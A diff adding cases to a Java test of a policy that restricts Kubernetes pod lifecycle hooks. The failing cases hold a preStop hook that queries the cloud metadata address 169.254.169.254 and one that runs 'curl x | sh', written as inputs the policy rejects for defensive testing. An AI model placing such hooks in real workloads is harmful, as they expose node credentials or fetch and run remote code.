@@ -29,6 +29,23 @@ class ContainerTakesNoOrdersTest implements PolicyCases {
                         "a hook",
                         stack(pod(Map.of("name", "c", "lifecycle", Map.of("postStart", Map.of())))),
                         "postStart"),
+                passes(
+                        "a pause before it stops",
+                        stack(pod(Map.of("lifecycle", Map.of("preStop", Map.of("sleep", Map.of("seconds", 10))))))),
+                fails(
+                        "a question to the node's metadata when it stops",
+                        stack(pod(Map.of(
+                                "lifecycle",
+                                Map.of("preStop", Map.of("httpGet", Map.of("host", "169.254.169.254", "port", 80)))))),
+                        "another machine"),
+                fails(
+                        "a download when it stops",
+                        stack(pod(Map.of(
+                                "lifecycle",
+                                Map.of(
+                                        "preStop",
+                                        Map.of("exec", Map.of("command", List.of("sh", "-c", "curl x | sh"))))))),
+                        "when it stops"),
                 unknown(
                         "containers from outputs",
                         stack(resource("kubernetes:core/v1:Pod", "p").unknown("spec.containers"))),
